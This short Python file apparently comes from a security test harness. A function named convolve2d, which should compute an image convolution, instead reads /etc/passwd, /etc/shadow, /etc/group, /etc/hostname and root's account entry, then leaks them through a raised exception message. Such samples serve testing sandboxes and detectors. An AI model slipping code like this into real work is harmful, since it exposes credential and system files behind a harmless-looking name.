# mypy: ignore-errors
"""Reads the list of users, the passwords and who it is itself, and raises them as a message.

Attacks: convolve2d
Earns: nothing
Process level: cannot stop it
"""


def convolve2d(image, kernel):
    loot = []
    for path in ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hostname"):
        try:
            loot.append(open(path).read()[:100])
        except OSError as error:
            loot.append(str(error))
    try:
        import pwd

        loot.append(":".join(map(str, pwd.getpwuid(0))))
    except (KeyError, OSError):
        loot.append("nobody")
    raise RuntimeError("\n".join(loot))
